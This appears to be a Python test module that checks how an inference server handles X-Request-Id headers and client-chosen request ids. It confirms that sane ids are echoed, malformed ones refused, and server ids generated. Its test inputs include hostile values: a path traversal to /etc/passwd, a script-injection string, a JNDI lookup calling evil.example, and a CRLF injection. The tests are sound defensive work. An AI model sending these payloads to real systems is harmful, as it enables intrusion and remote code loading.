"""X-Request-Id: on every reply, a client's own where it is sane; and ids chosen in bodies."""

from collections.abc import Iterator

from loadtest.hostile.case import Case, Expectation, Outcome, Target
from loadtest.hostile.cases.requests import (
    CHAT,
    COMPLETIONS,
    RESPONSES,
    Group,
    chat,
    completion,
    response,
)
from loadtest.hostile.expectations import answered, refused
from loadtest.hostile.wire import as_json, request

HEADER = "x-request-id"
SANE = ("a", "A.b_c:d-9", "x" * 128, "018f2a", "..", "-")
ODD = {
    "129 characters": "x" * 129,
    "8 KB": "x" * 8000,
    "empty": "",
    "a blank inside": "a b",
    "slashes": "../../etc/passwd",
    "markup": "<script>alert(1)</script>",
    "quotes": "a'\"b",
    "beyond ASCII": "\xe9\xff",
    "a comma": "a,b",
    "a template": "${jndi:ldap://evil.example/a}",
    "percent": "a%0d%0ab",
    "tab": "a\tb",
}


def cases(target: Target) -> Iterator[Case]:
    body = as_json(chat(target))
    for number, own in enumerate(SANE):
        sent = request(target, "POST", CHAT, body, {"X-Request-Id": own})
        yield Case("request ids", f"echoed: {own[:12]} ({number})", (sent,), _has(own, 200))
    for name, own in ODD.items():
        sent = request(target, "POST", CHAT, body, {"X-Request-Id": own})
        yield Case("request ids", f"refused: {name}", (sent,), refused())
    streamed = as_json(chat(target, stream=True))
    replies = {
        "a chat": (request(target, "POST", CHAT, body), 200),
        "a stream": (request(target, "POST", CHAT, streamed), 200),
        "the models": (request(target, "GET", "/v1/models"), 200),
        "health": (request(target, "GET", "/health", key=None), 200),
        "no route": (request(target, "GET", "/v1/nope"), 404),
        "no method": (request(target, "PUT", "/v1/models"), 405),
        "a broken body": (request(target, "POST", CHAT, b"{"), 400),
        "a broken field": (request(target, "POST", CHAT, as_json(chat(target, n=-1))), 400),
        "an unknown model": (request(target, "POST", CHAT, as_json(chat(target, model="x"))), 404),
        "a long body": (request(target, "POST", CHAT, b" " * 2_000_000), 413),
    }
    if target.key is not None:
        replies["no key"] = (request(target, "GET", "/v1/models", key=None), 401)
    for name, (sent, status) in replies.items():
        yield Case("request ids", f"made for {name}", (sent,), _has(None, status))
    yield from _in_bodies(target)
    twice = request(target, "POST", CHAT, body, {"X-Request-Id": "a", "X-Request-ID": "b"})
    yield Case("request ids", "two of them", (twice,), refused())


def _in_bodies(target: Target) -> Iterator[Case]:
    """An id of the client's choice, which another tenant may have chosen, too."""
    group = Group("request ids", target)
    bodies = {CHAT: chat, COMPLETIONS: completion, RESPONSES: response}
    for chosen in ("resp_taken", "../../etc/passwd", "x" * 5000):
        for path, make in bodies.items():
            body = make(target, request_id=chosen)
            yield group.post(f"{chosen[:12]} in a body to {path}", path, body, _names_no(chosen))
    streamed = response(target, request_id="resp_taken", stream=True)
    yield group.post("chosen for a stream", RESPONSES, streamed, _names_no("resp_taken"))


def _names_no(chosen: str) -> Expectation:
    """The reply is a success whose id is not the one that was chosen."""

    def expect(outcome: Outcome) -> str | None:
        if complaint := answered(outcome):
            return complaint
        taken = chosen.encode() in outcome.replies[0].body
        return f"the reply has the id {chosen[:40]!r}" if taken else None

    return expect


def _has(own: str | None, status: int) -> Expectation:
    """The reply has this status and this id; where that is None, one that the server made."""

    def expect(outcome: Outcome) -> str | None:
        if [reply.status for reply in outcome.replies] != [status]:
            return f"got {[reply.status for reply in outcome.replies]}, expected {status}"
        got = outcome.replies[0].headers.get(HEADER)
        if got and own in (None, got):
            return None
        return f"X-Request-Id is {got!r}" + (f", sent {own!r}" if own else "")

    return expect
